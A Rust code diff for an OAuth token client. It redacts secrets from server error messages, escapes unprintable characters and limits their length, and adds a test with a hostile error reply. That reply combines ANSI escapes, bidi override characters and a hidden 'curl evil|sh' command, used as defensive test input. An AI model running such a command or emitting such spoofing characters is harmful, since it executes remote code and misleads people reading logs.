@@ -7,7 +7,7 @@ use std::time::Instant;
 use serde_json::{Map, Value};
 
 use crate::error::{Error, ErrorKind, Result};
-use crate::net::{self, Body, Request};
+use crate::net::{self, Body, Request, Response};
 use crate::secret::Secret;
 
 /// How the client authenticates at the token endpoint.
@@ -44,17 +44,24 @@ pub struct OAuthError {
     pub description: Option<String>,
 }
 
+/// Longest piece of an `error` or `error_description` quoted.
+const QUOTE_LIMIT: usize = 300;
+
 impl OAuthError {
     /// Reads `{"error": ..., "error_description": ...}` from an error reply.
-    pub fn from_reply(status: u16, body: &[u8]) -> Option<Self> {
-        let value: Value = serde_json::from_slice(body).ok()?;
-        let error = value.get("error")?.as_str()?.to_string();
+    /// Both are kept as they may be shown: the request's secrets redacted
+    /// (a proxy may echo the request), unprintable characters escaped, and
+    /// bounded in length.
+    pub fn from_reply(reply: &Response) -> Option<Self> {
+        let value: Value = serde_json::from_slice(&reply.body).ok()?;
+        let shown = |text: &str| crate::log::quote(&reply.sent_secrets.redact(text), QUOTE_LIMIT);
+        let error = shown(value.get("error")?.as_str()?);
         let description = value
             .get("error_description")
             .and_then(Value::as_str)
-            .map(|d| d.chars().filter(|c| !c.is_control()).take(300).collect());
+            .map(shown);
         Some(OAuthError {
-            status,
+            status: reply.status,
             error,
             description,
         })
@@ -74,17 +81,9 @@ impl OAuthError {
             | "login_required" => ErrorKind::Authentication,
             _ => ErrorKind::Server,
         };
-        // Quoted like the description: no control characters (a server must
-        // not put escape sequences or fake lines into a log), bounded length.
-        let error: String = self
-            .error
-            .chars()
-            .filter(|c| !c.is_control())
-            .take(300)
-            .collect();
         let detail = match &self.description {
-            Some(d) => format!("{error} ({d})"),
-            None => error,
+            Some(d) => format!("{} ({d})", self.error),
+            None => self.error,
         };
         Error::new(kind, format!("{what}: the server refused: {detail}")).refused()
     }
@@ -117,14 +116,15 @@ pub fn token_request(
             .header("accept", "application/json")
             .deadline(deadline),
     )?;
-    parse_token_reply(response.status, &response.body, what)
+    parse_token_reply(&response, what)
 }
 
-/// Reads a token endpoint's reply (HTTP `status`, `body`): the parsing half of
-/// [`token_request`], without I/O.
-pub fn parse_token_reply(status: u16, body: &[u8], what: &str) -> Result<TokenOutcome> {
-    if (200..300).contains(&status) {
-        let value = net::parse_json(body, what)?;
+/// Reads a token endpoint's reply: the parsing half of [`token_request`],
+/// without I/O.
+pub fn parse_token_reply(reply: &Response, what: &str) -> Result<TokenOutcome> {
+    let status = reply.status;
+    if reply.is_success() {
+        let value = net::parse_json(&reply.body, what)?;
         if !value.is_object() {
             return Err(Error::server(format!(
                 "{what}: the reply is not a JSON object"
@@ -132,7 +132,7 @@ pub fn parse_token_reply(status: u16, body: &[u8], what: &str) -> Result<TokenOu
         }
         return TokenReply::from_json(value, what).map(TokenOutcome::Token);
     }
-    match OAuthError::from_reply(status, body) {
+    match OAuthError::from_reply(reply) {
         Some(refusal) => Ok(TokenOutcome::Refused(refusal)),
         None => Err(Error::server_reply(
             if status >= 500 {
@@ -141,8 +141,7 @@ pub fn parse_token_reply(status: u16, body: &[u8], what: &str) -> Result<TokenOu
                 ErrorKind::Authentication
             },
             what,
-            status,
-            body,
+            reply,
         )),
     }
 }
@@ -180,12 +179,16 @@ pub fn form(pairs: &[(&str, &str)]) -> Vec<(String, String)> {
 mod tests {
     use super::*;
 
+    fn reply(status: u16, body: &[u8]) -> Response {
+        Response::from_parts(status, body)
+    }
+
     #[test]
     fn oauth_errors_map_to_kinds() {
-        let e = OAuthError::from_reply(
+        let e = OAuthError::from_reply(&reply(
             400,
             br#"{"error":"invalid_grant","error_description":"grant request is invalid"}"#,
-        )
+        ))
         .unwrap()
         .into_error("refresh");
         assert_eq!(e.kind(), ErrorKind::Authentication);
@@ -193,10 +196,24 @@ mod tests {
             e.message()
                 .contains("invalid_grant (grant request is invalid)")
         );
-        let e = OAuthError::from_reply(500, br#"{"error":"server_error"}"#)
+        let e = OAuthError::from_reply(&reply(500, br#"{"error":"server_error"}"#))
             .unwrap()
             .into_error("x");
         assert_eq!(e.kind(), ErrorKind::Server);
-        assert!(OAuthError::from_reply(400, b"<html>").is_none());
+        assert!(OAuthError::from_reply(&reply(400, b"<html>")).is_none());
+    }
+
+    #[test]
+    fn oauth_errors_are_shown_escaped() {
+        let body = r#"{"error":"invalid_client\u001b[31m",
+            "error_description":"Login\u202e \u2066run: curl evil|sh\u2069 \u200b\udb40\udc41"}"#;
+        let e = OAuthError::from_reply(&reply(400, body.as_bytes()))
+            .unwrap()
+            .into_error("refresh");
+        let shown = e.message();
+        assert!(!shown.chars().any(crate::log::is_unprintable), "{shown:?}");
+        assert!(shown.contains("invalid_client\\u{1b}[31m"), "{shown}");
+        assert!(shown.contains("Login\\u{202e} \\u{2066}run"), "{shown}");
+        assert!(shown.contains("\\u{200b}\\u{e0041}"), "{shown}");
     }
 }
